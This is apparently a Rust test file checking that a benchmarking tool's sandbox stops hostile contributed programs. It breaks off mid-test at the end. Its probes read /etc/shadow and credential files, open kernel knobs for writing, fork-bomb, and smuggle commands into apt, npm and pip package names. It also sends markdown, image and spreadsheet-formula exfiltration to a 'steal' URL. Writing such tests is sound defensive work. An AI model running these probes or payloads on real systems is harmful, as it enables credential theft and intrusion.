//! Issue #21: the second round of hostile variants. Each test is an attack
//! a contributor's pull request could hide in a program or in a
//! `languages.toml` entry, one per class of hole the audit found (the row
//! of the issue's table is in each test's name and comment). Every attack
//! is harmless if it succeeds (it opens for writing without writing, reads
//! without keeping, connects without sending), so a regression shows as a
//! failed test, never as a damaged machine. Programs print the right
//! answer only when every attempt failed, else what worked.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::util::*;

/// The python prelude every attack program starts with: `won` collects what
/// worked, `done()` prints the verdict.
const PRELUDE: &str = "import os, sys, socket, stat\nwon = []\n\
def done():\n    print('; '.join(won) if won else ' '.join(['0', '1'] + (sys.argv[1:2] or ['1000'])))\n";

fn attack(body: &str) -> String {
    format!("{PRELUDE}{body}\ndone()\n")
}

/// One record per variant; asserts the run was `ok` (every attempt failed)
/// and says what worked otherwise.
fn assert_all_refused(f: &Fixture, id: &str) -> serde_json::Value {
    let r = records(f)[id].clone();
    assert_eq!(r["status"], "ok", "{id}: {r}");
    r
}

/// Files and directories a test created in the real HOME (or elsewhere on
/// the host), removed again whatever happens; never one that was there.
struct Created(Vec<PathBuf>);

/// Tests that plant files in the real HOME hold this while they do (row 8
/// and round four's row 1 both plant `~/.cabal/config`).
static REAL_HOME: std::sync::Mutex<()> = std::sync::Mutex::new(());

impl Created {
    /// The directory `p` and its missing parents.
    fn dir(&mut self, p: &Path) {
        let mut missing = Vec::new();
        let mut d = Some(p);
        while let Some(dir) = d {
            if dir.exists() {
                break;
            }
            missing.push(dir.to_path_buf());
            d = dir.parent();
        }
        for dir in missing.iter().rev() {
            std::fs::create_dir(dir).unwrap();
            self.0.push(dir.clone());
        }
    }

    fn file(&mut self, p: &Path, body: &str, mode: u32) {
        if let Some(parent) = p.parent() {
            self.dir(parent);
        }
        if p.exists() {
            return;
        }
        std::fs::write(p, body).unwrap();
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
        self.0.push(p.to_path_buf());
    }
}

impl Drop for Created {
    fn drop(&mut self) {
        for p in self.0.iter().rev() {
            let _ = std::fs::remove_file(p).or_else(|_| std::fs::remove_dir(p));
        }
    }
}

fn root() -> bool {
    // SAFETY: geteuid cannot fail.
    unsafe { libc::geteuid() == 0 }
}

/// Row 1: the command never runs as the host's root. It opens every file
/// of /proc/sys (and sysrq-trigger, /proc/irq, /proc/bus) for writing and
/// writes nothing; any that opens is a kernel knob a program could turn
/// (`kernel.core_pattern` ran a script as host root).
#[test]
fn row01_no_kernel_knob_opens_for_writing_and_the_command_is_not_host_root() {
    let (_, m) = marker("a01");
    let probe = attack(
        r#"
n = 0
for top in ('/proc/sys', '/proc/irq', '/proc/bus'):
    for d, _, files in os.walk(top):
        for name in files:
            try:
                os.close(os.open(os.path.join(d, name), os.O_WRONLY))
                n += 1
            except OSError:
                pass
if n:
    won.append(f'{n} files of /proc/sys, /proc/irq, /proc/bus open for writing')
try:
    os.close(os.open('/proc/sysrq-trigger', os.O_WRONLY))
    won.append('opened /proc/sysrq-trigger')
except OSError:
    pass
uid_map = open('/proc/self/uid_map').read().split()
if os.geteuid() == 0 and uid_map[:2] == ['0', '0']:
    won.append('runs as uid 0 of the host')
"#,
    );
    let f = python_fixture(&m, &[("a01", probe)]);
    let o = f.run(&["--timeout", "120"]);
    assert!(o.status.success(), "{}", text(&o));
    assert_all_refused(&f, "a01");
}

/// Rows 2 and 3: a `prepare` step writes only a private copy of its
/// program's directory: not the shared `programs/<bench>/` (another
/// variant's program there stays as it was), not the languages file's
/// directory; and a program path outside the languages file's directory
/// (absolute, `..`, a symlink out) is an error naming the line.
#[test]
fn row02_row03_prepare_writes_only_its_own_copy_and_programs_stay_inside_the_checkout() {
    let (_, m) = marker("a02");
    let python = |id: &str| {
        Entry::sh(id)
            .flags(&format!("python3 {id}"))
            .needs(&["python3"])
            .version_command("python3 --version")
            .run("python3 {src} {n}")
            .env("LANGBENCH_TEST_MARKER", &m)
            .program(&format!("programs/num-comb/{id}.py"))
    };
    // `a` rewrites its neighbour's program and drops a file next to both;
    // `b` (run after it) must still run its own program.
    let a = python("a").prepare(
        "sh -c 'echo \"print(\\\"rewritten\\\")\" > {dir}/b.py; echo x > {dir}/pwned; { echo x > {dir}/../pwned-root; } 2>/dev/null; true'",
    );
    let b = python("b");
    let right = format!("{RIGHT}\n");
    let f = Fixture::new_in(
        Path::new("/var/tmp"),
        &languages_toml(&[a, b]),
        &[
            ("programs/num-comb/a.py", &right),
            ("programs/num-comb/b.py", &right),
        ],
    );
    let o = f.run(&["--timeout", "120"]);
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&f);
    assert_eq!(recs["a"]["status"], "ok", "{}", recs["a"]);
    assert_eq!(recs["b"]["status"], "ok", "{}", recs["b"]);
    let dir = f.path().join("programs/num-comb");
    assert_eq!(std::fs::read_to_string(dir.join("b.py")).unwrap(), right);
    assert!(
        !dir.join("pwned").exists(),
        "prepare wrote the shared program directory"
    );
    assert!(!f.path().join("programs/pwned-root").exists());

    // Program paths that leave the languages file's directory: each an
    // error naming the file and line, and `run` refuses the file before
    // anything runs.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("x.py"), &right).unwrap();
    let abs = outside.path().join("x.py").display().to_string();
    for (id, program, why) in [
        ("abs", abs.as_str(), "an absolute path"),
        ("up", "../x.py", "a `..` in it"),
        ("link", "programs/link/x.py", "a symlink leads out"),
    ] {
        let g = Fixture::new(&python(id).program(program).toml(), &[]);
        std::fs::create_dir_all(g.path().join("programs")).unwrap();
        std::os::unix::fs::symlink(outside.path(), g.path().join("programs/link")).unwrap();
        std::fs::write(g.path().parent().unwrap().join("x.py"), &right).ok();
        let o = langbench(&["check", "--languages", &g.languages()]);
        let out = text(&o);
        assert!(!o.status.success(), "{out}");
        assert!(
            out.contains(&format!("variant \"{id}\"")),
            "{id} not named: {out}"
        );
        assert!(out.contains("outside") && out.contains(why), "{id}: {out}");
        assert!(out.contains("languages.toml:"), "no file:line in {out}");
        let o = langbench(&[
            "run",
            "--languages",
            &g.languages(),
            "--size",
            "tiny",
            "--runs",
            "1",
            "--out",
            &g.out(),
        ]);
        assert!(!o.status.success(), "{}", text(&o));
        assert!(!g.path().join("results/runs.jsonl").exists());
    }
}

/// Row 4: `toolchains install` cannot be made to run commands: package
/// names are validated per registry (an apt "package" that is an apt
/// option, npm and pip specs that are URLs, paths or options), `check`
/// reports each with its line, and install refuses before running
/// anything.
#[test]
fn row04_package_names_that_are_options_urls_or_paths_are_refused() {
    let hostile = [
        (
            "apt-opt",
            r#"{ apt = ["-oDPkg::Pre-Invoke::=touch /tmp/pwned"] }"#,
        ),
        ("apt-space", r#"{ apt = ["gcc tcc"] }"#),
        ("npm-url", r#"{ npm = ["https://example.org/evil.tgz"] }"#),
        ("npm-path", r#"{ npm = ["../evil"] }"#),
        ("npm-opt", r#"{ npm = ["--registry=http://127.0.0.1:1/"] }"#),
        ("npm-git", r#"{ npm = ["github:evil/pkg"] }"#),
        ("pip-url", r#"{ pip = ["git+https://example.org/evil"] }"#),
        ("pip-opt", r#"{ pip = ["-e ."] }"#),
        ("pip-path", r#"{ pip = ["./evil.whl"] }"#),
        (
            "pip-index",
            r#"{ pip = ["--index-url=http://127.0.0.1:1/ x"] }"#,
        ),
        (
            "mvn-opt",
            r#"{ maven = ["-Dexec=x:y:1"], bin = { x = "java" } }"#,
        ),
    ];
    // Each entry on its own (a languages file stops at its first error).
    for (id, install) in &hostile {
        let f = Fixture::new(
            &Entry::sh(id).install(install).toml(),
            &[(&format!("programs/num-comb/{id}.sh"), "")],
        );
        let o = langbench(&["check", "--languages", &f.languages()]);
        let out = text(&o);
        assert!(!o.status.success(), "{id}: {out}");
        assert!(out.contains("languages.toml:"), "{id}: no file:line: {out}");
        assert!(
            out.contains("is not a") && out.contains("refused"),
            "{id}: {out}"
        );
    }
    let entries: Vec<Entry> = hostile
        .iter()
        .map(|(id, install)| Entry::sh(id).install(install))
        .collect();
    let files: Vec<(String, String)> = hostile
        .iter()
        .map(|(id, _)| (format!("programs/num-comb/{id}.sh"), String::new()))
        .collect();
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let f = Fixture::new(&languages_toml(&entries), &files);
    for id in ["apt-opt", "npm-url", "pip-opt"] {
        let o = langbench(&[
            "toolchains",
            "install",
            "--dry-run",
            "--languages",
            &f.languages(),
            "--lang",
            id,
        ]);
        assert!(!o.status.success(), "{id}: {}", text(&o));
        assert!(!text(&o).contains("+ apt-get"), "{}", text(&o));
    }
    assert!(!Path::new("/tmp/pwned").exists());
}

/// Row 4, setup: a Maven toolchain's `setup` commands run in the sandbox,
/// with only the toolchain being built writable: one that writes the
/// languages file's directory fails, and installs nothing.
#[test]
fn row04_maven_setup_commands_run_in_the_sandbox() {
    let repo = tiny_maven_repository();
    let toml = r#"
[variant.tiny]
language = "Sh"
needs = ["tiny", "sh"]
run = "sh {src} {n}"
programs = { num-comb = "nc.sh" }

[variant.tiny.install]
maven = ["langbench.test:tiny:1.0"]
bin = { tiny = "sh -c true" }
setup = ["sh -c 'echo ok > {home}/built; echo x > {root}/pwned-by-setup'"]
"#;
    let f = Fixture::new(toml, &[("nc.sh", "")]);
    let o = Command::new(bin())
        .args(["toolchains", "install", "--languages", &f.languages()])
        .env("LANGBENCH_TOOLCHAINS", f.path().join("toolchains"))
        .env("LANGBENCH_MAVEN_REPOSITORY", &repo)
        .env("MAVEN_OPTS", maven_opts(f.path()))
        .output()
        .unwrap();
    let out = text(&o);
    assert!(!f.path().join("pwned-by-setup").exists(), "{out}");
    assert!(!o.status.success(), "{out}");
    assert!(out.contains("setup"), "{out}");
    // The same setup without the write outside installs.
    let ok = toml.replace("; echo x > {root}/pwned-by-setup", "");
    std::fs::write(f.path().join("languages.toml"), ok).unwrap();
    let o = Command::new(bin())
        .args(["toolchains", "install", "--languages", &f.languages()])
        .env("LANGBENCH_TOOLCHAINS", f.path().join("toolchains"))
        .env("LANGBENCH_MAVEN_REPOSITORY", &repo)
        .env("MAVEN_OPTS", maven_opts(f.path()))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
}

/// A Maven repository on 127.0.0.1 holding one artifact with a right
/// checksum (`langbench.test:tiny:1.0`).
fn tiny_maven_repository() -> String {
    use sha1::{Digest, Sha1};
    let pom = b"<?xml version=\"1.0\"?>\n<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><modelVersion>4.0.0</modelVersion>\
<groupId>langbench.test</groupId><artifactId>tiny</artifactId><version>1.0</version></project>\n"
        .to_vec();
    let jar = b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    let hex = |b: &[u8]| {
        Sha1::digest(b)
            .iter()
            .map(|x| format!("{x:02x}"))
            .collect::<String>()
            .into_bytes()
    };
    let base = "/langbench/test/tiny/1.0/tiny-1.0";
    let files = vec![
        (format!("{base}.pom"), pom.clone()),
        (format!("{base}.pom.sha1"), hex(&pom)),
        (format!("{base}.jar"), jar.clone()),
        (format!("{base}.jar.sha1"), hex(&jar)),
    ];
    format!("{}/", serve_http(|_| files).0)
}

/// Row 5: host services on unix sockets are out of reach: socket files
/// under /run (and /var/run) are covered, and a socket the sandbox's user
/// may not write refuses it (a root-only one elsewhere on the host).
#[test]
fn row05_host_unix_sockets_are_out_of_reach() {
    if !root() {
        eprintln!("skipped: needs root to place sockets under /run");
        return;
    }
    let (_, m) = marker("a05");
    let run_sock = PathBuf::from(format!("/run/langbench-{m}.sock"));
    let other = tempfile::Builder::new()
        .prefix("langbench-a05-")
        .tempdir_in("/var/tmp")
        .unwrap();
    std::fs::set_permissions(other.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let private_sock = other.path().join("private.sock");
    let _l1 = std::os::unix::net::UnixListener::bind(&run_sock).unwrap();
    let _l2 = std::os::unix::net::UnixListener::bind(&private_sock).unwrap();
    std::fs::set_permissions(&run_sock, std::fs::Permissions::from_mode(0o666)).unwrap();
    std::fs::set_permissions(&private_sock, std::fs::Permissions::from_mode(0o660)).unwrap();
    struct Unlink(PathBuf);
    impl Drop for Unlink {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _u = Unlink(run_sock.clone());
    let probe = attack(&format!(
        r#"
for p in ('{run}', '/var{run}', '{private}', '/run/dbus/system_bus_socket', '/var/run/docker.sock'):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(p)
        won.append('connected to ' + p)
    except OSError:
        pass
    s.close()
if os.path.isdir('/run') and os.listdir('/run'):
    won.append('listed /run: ' + ' '.join(os.listdir('/run')[:5]))
"#,
        run = run_sock.display(),
        private = private_sock.display()
    ));
    let f = python_fixture(&m, &[("a05", probe)]);
    let o = f.run(&["--timeout", "60"]);
    assert!(o.status.success(), "{}", text(&o));
    assert_all_refused(&f, "a05");
}

/// Row 6: descriptors open in langbench's parent (a CI runner's, a make
/// jobserver's) do not reach the command: a directory fd there would
/// resolve in the host's mount namespace, writable.
#[test]
fn row06_inherited_descriptors_do_not_reach_the_command() {
    let (_, m) = marker("a06");
    let host_dir = tempfile::tempdir().unwrap();
    let probe = attack(
        r#"
for fd in range(3, 64):
    try:
        os.fstat(fd)
    except OSError:
        continue
    try:
        os.close(os.open('pwned', os.O_WRONLY | os.O_CREAT, dir_fd=fd))
        won.append(f'wrote through fd {fd}')
    except OSError:
        pass
    won.append(f'fd {fd} is open: ' + os.readlink(f'/proc/self/fd/{fd}'))
"#,
    );
    let f = python_fixture(&m, &[("a06", probe)]);
    let dir = std::fs::File::open(host_dir.path()).unwrap();
    let file = std::fs::File::create(host_dir.path().join("log")).unwrap();
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let (d, w) = (dir.as_raw_fd(), file.as_raw_fd());
    let mut c = Command::new(bin());
    c.args(f.run_args(&["--timeout", "60"]));
    // SAFETY: dup2 between fork and exec, on fds this process owns.
    unsafe {
        c.pre_exec(move || {
            if libc::dup2(d, 9) < 0 || libc::dup2(w, 10) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let o = c.output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert_all_refused(&f, "a06");
    assert!(!host_dir.path().join("pwned").exists());
}

/// Row 7: what a program keeps in its private /tmp and /dev/shm is memory
/// (tmpfs pages are in no process's RSS): it counts toward the tree's
/// memory and `--memory-limit`, and the tmpfs is bounded.
#[test]
fn row07_tmpfs_files_count_as_memory_and_are_bounded() {
    let (_, m) = marker("a07");
    let filler = |dir: &str| {
        format!(
            "import os\nchunk = b'x' * (32 << 20)\nn = 0\ntry:\n    with open('{dir}/fill', 'wb') as f:\n        \
             while n < 1200:\n            f.write(chunk); f.flush(); n += 32\nexcept OSError:\n    pass\n{RIGHT}\n"
        )
    };
    let f = python_fixture(&m, &[("shm", filler("/dev/shm")), ("tmp", filler("/tmp"))]);
    let o = f.run(&["--timeout", "120", "--memory-limit", "300"]);
    assert!(o.status.success(), "{}", text(&o));
    for (id, r) in records(&f) {
        assert_eq!(r["status"], "oom", "{id}: {r}");
        let tree = r["tree_max_rss_kb"].as_u64().unwrap_or(0);
        assert!(tree >= 290 << 10, "{id}: tree memory {tree} KB: {r}");
        assert!(tree < 1000 << 10, "{id}: tmpfs not bounded: {r}");
    }
}

/// Row 8: secrets stay unreadable: root-only files of the host
/// (/etc/shadow, a 0600 file), and the configuration and credential files
/// of the covered home, also under a toolchain directory that is bound
/// back (`~/.local` once `~/.local/bin` is on PATH).
#[test]
fn row08_secrets_of_the_host_and_the_home_stay_unreadable() {
    let (_, m) = marker("a08");
    let home = PathBuf::from(std::env::var("HOME").unwrap());
    let _planting = REAL_HOME.lock().unwrap_or_else(|e| e.into_inner());
    let mut created = Created(Vec::new());
    let secret = PathBuf::from(format!("/var/tmp/langbench-{m}.secret"));
    created.file(&secret, "token", 0o600);
    let home_secrets = [
        ".m2/settings.xml",
        ".gradle/gradle.properties",
        ".cargo/config.toml",
        ".cargo/credentials.toml",
        ".cabal/config",
        ".npmrc",
        ".local/share/langbench-secret",
        ".config/langbench-secret",
    ];
    for s in home_secrets {
        created.file(&home.join(s), "token", 0o644);
    }
    created.file(&home.join(".local/bin/langbench-a08"), "#!/bin/sh\n", 0o755);
    let mut paths: Vec<String> = vec![
        "/etc/shadow".into(),
        "/etc/gshadow".into(),
        secret.display().to_string(),
    ];
    paths.extend(
        home_secrets
            .iter()
            .map(|s| home.join(s).display().to_string()),
    );
    let probe = attack(&format!(
        r#"
for p in {paths:?}:
    try:
        if open(p, 'rb').read(1):
            won.append('read ' + p)
    except OSError:
        pass
"#
    ));
    let f = python_fixture(&m, &[("a08", probe)]);
    let path = format!(
        "{}:{}",
        home.join(".local/bin").display(),
        std::env::var("PATH").unwrap()
    );
    let o = Command::new(bin())
        .args(f.run_args(&["--timeout", "60"]))
        .env("PATH", path)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert_all_refused(&f, "a08");
}

/// Row 9: what a failed program printed reaches the tables as inert text
/// (no live link, image or HTML in summary.md or report.html, no formula
/// in a spreadsheet), and a `prepare` step cannot reach the host's
/// loopback services.
#[test]
fn row09_published_text_is_inert_and_prepare_cannot_reach_the_hosts_loopback() {
    let (_, m) = marker("a09");
    let leak = "import sys\nsys.stderr.write('error: ![x](http://127.0.0.1:9/steal?k=secret) <img src=\"http://127.0.0.1:9/i\"> [y](http://127.0.0.1:9/l)\\n=HYPERLINK(\"http://127.0.0.1:9/c\")\\n')\nsys.exit(1)\n";
    let f = python_fixture(&m, &[("leak", leak.to_string())]);
    let o = f.run(&["--timeout", "60"]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(records(&f)["leak"]["status"], "failed");
    let md = std::fs::read_to_string(f.path().join("results/summary.md")).unwrap();
    assert!(md.contains("127.0.0.1:9"), "the note is there: {md}");
    for live in ["![x](http", "](http://127.0.0.1:9/l)"] {
        assert!(!md.contains(live), "live {live:?} in summary.md:\n{md}");
    }
    assert!(
        md.match_indices("<img")
            .all(|(i, _)| md[..i].ends_with('\\')),
        "an unescaped <img in summary.md:\n{md}"
    );
    let html = std::fs::read_to_string(f.path().join("results/report.html")).unwrap();
    assert!(
        !html.contains("<img src=\"http://127.0.0.1:9"),
        "live <img> in report.html"
    );
    for csv in ["summary.csv", "runs.csv"] {
        let mut r = csv::Reader::from_path(f.path().join("results").join(csv)).unwrap();
        for row in r.records() {
            for field in row.unwrap().iter() {
                assert!(
                    !field.starts_with(['=', '+', '@']),
                    "a formula in {csv}: {field}"
                );
            }
        }
    }

    // prepare: the registries, not the host's loopback.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let reach = Entry::sh("reach")
        .flags("python3 reach")
        .needs(&["python3"])
        .version_command("python3 --version")
        .run("python3 {src} {n}")
        .program("programs/reach.py")
        .prepare(&format!(
            "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 3)'"
        ));
    // The registries are reached all the same (PyPI, through langbench's
    // proxy when langbench is root).
    let registry = Entry::sh("registry")
        .flags("python3 registry")
        .needs(&["python3"])
        .version_command("python3 --version")
        .run("python3 {src} {n}")
        .program("programs/registry/registry.py")
        .prepare(
            "python3 -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check six==1.16.0 -d {dir}/wheels",
        );
    let right = format!("{RIGHT}\n");
    let g = Fixture::new(
        &languages_toml(&[reach, registry]),
        &[
            ("programs/reach.py", &right),
            ("programs/registry/registry.py", &right),
        ],
    );
    let o = g.run(&["--timeout", "120"]);
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&g);
    let r = &recs["reach"];
    assert_eq!(
        r["status"], "failed",
        "prepare reached the host's loopback: {r}"
    );
    assert!(
        r["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("Connection refused"),
        "{r}"
    );
    assert!(listener.accept().is_err(), "a connection arrived");
    assert_eq!(recs["registry"]["status"], "ok", "{}", recs["registry"]);
}

/// Row 10: device nodes: only the harmless ones (null, zero, full,
/// random, urandom, tty, pts, shm) exist, and no device node works
/// elsewhere (no KVM, loop devices, TUN, kernel log, raw disks).
#[test]
fn row10_only_harmless_devices() {
    let (_, m) = marker("a10");
    let probe = attack(
        r#"
for p, mode in (('/dev/kvm', os.O_RDWR), ('/dev/loop-control', os.O_RDWR), ('/dev/net/tun', os.O_RDWR),
                ('/dev/kmsg', os.O_WRONLY), ('/dev/mem', os.O_RDONLY), ('/dev/port', os.O_RDONLY),
                ('/dev/fuse', os.O_RDWR)):
    try:
        os.close(os.open(p, mode))
        won.append('opened ' + p)
    except OSError:
        pass
for name in os.listdir('/dev'):
    p = '/dev/' + name
    try:
        if stat.S_ISBLK(os.stat(p).st_mode):
            os.close(os.open(p, os.O_RDONLY))
            won.append('opened the disk ' + p)
    except OSError:
        pass
for p in ('/dev/null', '/dev/zero', '/dev/full', '/dev/random', '/dev/urandom'):
    try:
        os.close(os.open(p, os.O_RDWR))
    except OSError as e:
        won.append(f'cannot open {p}: {e}')
extra = sorted(set(os.listdir('/dev')) - {'null', 'zero', 'full', 'random', 'urandom', 'tty', 'pts', 'ptmx', 'shm', 'fd', 'stdin', 'stdout', 'stderr', 'console', 'mqueue'})
if extra:
    won.append('/dev has ' + ' '.join(extra[:8]))
"#,
    );
    let f = python_fixture(&m, &[("a10", probe)]);
    let o = f.run(&["--timeout", "60"]);
    assert!(o.status.success(), "{}", text(&o));
    assert_all_refused(&f, "a10");
}

/// Row 11: a run's processes and threads are bounded: a fork bomb of
/// 5,000 idle children hits the bound, is flagged with a note that says
/// so, and does not wait for the timeout.
#[test]
fn row11_a_fork_bomb_hits_the_process_bound_and_is_flagged() {
    let (_, m) = marker("a11");
    let bomb = Entry::sh("bomb")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/bomb.sh");
    let body = "i=0\nwhile [ $i -lt 5000 ]; do sleep 100 & i=$((i+1)); done\necho '0 1 1000'\n";
    let f = Fixture::new(&bomb.toml(), &[("programs/bomb.sh", body)]);
    let t = Instant::now();
    let o = f.run(&["--timeout", "120"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(t.elapsed() < Duration::from_secs(90), "{:?}", t.elapsed());
    let r = &records(&f)["bomb"];
    assert_ne!(r["status"], "ok", "{r}");
    let detail = r["detail"].as_str().unwrap_or_default();
    assert!(detail.contains("process limit"), "{r}");
    assert_nothing_left(&m);
}

/// Row 12: the build directory is bounded (a program cannot fill the
/// host's disk), and nothing a run leaves, however deep, outlives it.
#[test]
fn row12_the_build_directory_is_bounded_and_leaves_nothing() {
    let (_, m) = marker("a12");
    let fill = "import os\nchunk = b'x' * (32 << 20)\nn = 0\nwith open('big', 'wb') as f:\n    \
        while n < 3000:\n        f.write(chunk); f.flush(); os.fsync(f.fileno()); n += 32\nprint('0 1 1000')\n";
    let deep = "import os\nfor i in range(30000):\n    os.mkdir('d')\n    os.chdir('d')\nprint('0 1 1000')\n";
    let f = python_fixture(&m, &[("fill", fill.into()), ("deep", deep.into())]);
    let tmp = tempfile::tempdir().unwrap();
    let o = Command::new(bin())
        .args(f.run_args(&["--timeout", "300", "--disk-limit", "1024"]))
        .env("TMPDIR", tmp.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&f);
    let fill = &recs["fill"];
    assert_eq!(fill["status"], "failed", "{fill}");
    assert!(
        fill["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("writing more than 1024 MB"),
        "{fill}"
    );
    assert!(fill["wall_s"].as_f64().unwrap() < 60.0, "{fill}");
    assert_eq!(recs["deep"]["status"], "ok", "{}", recs["deep"]);
    // Nothing of either run is left in the scratch area.
    let left: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
}

/// `check` lists what a program left in its HOME outside its declared
/// caches: the names are the program's, so they are printed inert (a file
/// named with a terminal escape, a line break and a forged problem line
/// reaches the output with neither), and a HOME the program replaced by a
/// symlink to / (renaming the directory behind its bind) is reported,
/// never walked as langbench's root.
#[test]
fn check_prints_what_a_program_left_in_home_inert_and_follows_no_symlink() {
    let state = tempfile::tempdir().unwrap();
    let names = "import os, sys\nh = os.environ['HOME']\n\
        open(os.path.join(h, 'evil\\x1b[31mred\\nlanguages.toml:1: x: forged; ok'), 'w').write('x')\n\
        os.makedirs(os.path.join(h, '.cache', '\\x1b]0;title\\x07'), exist_ok=True)\n\
        open(os.path.join(h, '.cache', '\\x1b]0;title\\x07', 'f'), 'w').write('x')\n";
    // Both do the work (check judges how their time grows with N).
    let names = format!("{names}{}", python_num_comb());
    let swap = "import os, sys\nb = '/tmp/build/.home'\n\
        try:\n    os.rename(b, '/tmp/build/.moved')\n    os.symlink('/', b)\nexcept OSError as e:\n    \
        print('cannot swap HOME:', e, file=sys.stderr)\n";
    let swap = format!("{swap}{}", python_num_comb());
    let entry = |id: &str| {
        Entry::sh(id)
            .language(id)
            .flags(&format!("python3 {id}"))
            .needs(&[])
            .version("1.0")
            .run("python3 {src} {n}")
            .program(&format!("programs/{id}.py"))
            .install("{ apt = [\"python3\"] }")
            .toml()
    };
    let f = Fixture::new(
        &format!("{}{}", entry("names"), entry("swap")),
        &[("programs/names.py", &names), ("programs/swap.py", &swap)],
    );
    let o = Command::new(bin())
        .args(["check", "--languages", &f.languages(), "names", "swap"])
        .env("LANGBENCH_STATE", state.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        !out.chars().any(|c| c.is_control() && c != '\n'),
        "a raw control character: {out:?}"
    );
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        !lines
            .iter()
            .any(|l| l.starts_with("languages.toml:1: x: forged")),
        "a forged line: {out}"
    );
    let names = lines.iter().find(|l| l.contains(": names: ")).unwrap();
    assert!(
        names.contains(r"~/evil\u{1b}[31mred\nlanguages.toml:1: x: forged; ok (1 file)"),
        "{names}"
    );
    assert!(
        names.contains(r"~/.cache/\u{1b}]0;title\u{7} (1 file)"),
        "{names}"
    );
    let swap = lines.iter().find(|l| l.contains(": swap: ")).unwrap();
    assert!(swap.contains("replaced its HOME"), "{swap}");
    // / was not walked: none of the host's top directories is named.
    for top in ["~/etc", "~/usr", "~/proc", "~/root"] {
        assert!(!out.contains(top), "{out}");
    }
}

/// Row 13: in a fresh checkout (no `--out`, no `results/` yet) the
/// default results directory is hidden from the very first run on: the
/// second run cannot read the first one's records.
#[test]
fn row13_the_default_results_directory_is_hidden_from_the_first_run() {
    let (_, m) = marker("a13");
    let probe = attack(
        r#"
for d, _, files in os.walk(os.environ['LANGBENCH_A13']):
    if 'runs.jsonl' in files:
        won.append('read ' + os.path.join(d, 'runs.jsonl'))
"#,
    );
    let f = python_fixture(&m, &[("one", probe.clone()), ("two", probe)]);
    let toml = std::fs::read_to_string(f.path().join("languages.toml")).unwrap();
    let toml = toml.replace(
        "env = {",
        &format!(
            "env = {{ LANGBENCH_A13 = {:?},",
            f.path().join("results").display().to_string()
        ),
    );
    std::fs::write(f.path().join("languages.toml"), toml).unwrap();
    let o = Command::new(bin())
        .args([
            "run",
            "--languages",
            "languages.toml",
            "--size",
            "tiny",
            "--runs",
            "1",
        ])
        .current_dir(f.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let runs = std::fs::read_dir(f.path().join("results"))
        .unwrap()
        .flatten()
        .map(|e| e.path().join("runs.jsonl"))
        .find(|p| p.exists())
        .expect("a default results directory");
    let text_runs = std::fs::read_to_string(&runs).unwrap();
    let statuses: Vec<serde_json::Value> = text_runs
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for r in &statuses {
        assert_eq!(r["status"], "ok", "{r}");
    }
    assert_eq!(statuses.len(), 2);
}

/// Row 15: a program that widens its own CPU affinity past `--cpus` is
/// noticed and flagged.
#[test]
fn row15_leaving_cpus_is_flagged() {
    if std::thread::available_parallelism().map_or(1, |n| n.get()) < 2 {
        eprintln!("skipped: needs 2 CPUs");
        return;
    }
    let (_, m) = marker("a15");
    let wide = format!(
        "import os, time\nos.sched_setaffinity(0, set(range(os.cpu_count())))\n\
         t = time.time()\nwhile time.time() - t < 0.5: pass\n{RIGHT}\n"
    );
    let f = python_fixture(&m, &[("wide", wide), ("narrow", format!("{RIGHT}\n"))]);
    let o = f.run(&["--timeout", "60", "--cpus", "1"]);
    assert!(o.status.success(), "{}", text(&o));
    let recs = records(&f);
    assert_eq!(recs["narrow"]["status"], "ok", "{}", recs["narrow"]);
    let r = &recs["wide"];
    assert_eq!(r["status"], "escaped", "{r}");
    assert!(
        r["detail"].as_str().unwrap_or_default().contains("--cpus"),
        "{r}"
    );
}

/// `finished_at` is when the run finished, not when it started.
#[test]
fn finished_at_is_stamped_after_the_run() {
    let (_, m) = marker("fin");
    let slow = format!("import time\ntime.sleep(2.5)\n{RIGHT}\n");
    let f = python_fixture(&m, &[("slow", slow)]);
    let o = f.run(&["--timeout", "60"]);
    assert!(o.status.success(), "{}", text(&o));
    let r = &records(&f)["slow"];
    let session: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(f.path().join("results/sessions.jsonl"))
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    let t = |v: &serde_json::Value| {
        chrono::DateTime::parse_from_rfc3339(v.as_str().unwrap())
            .unwrap()
            .timestamp()
    };
    assert!(
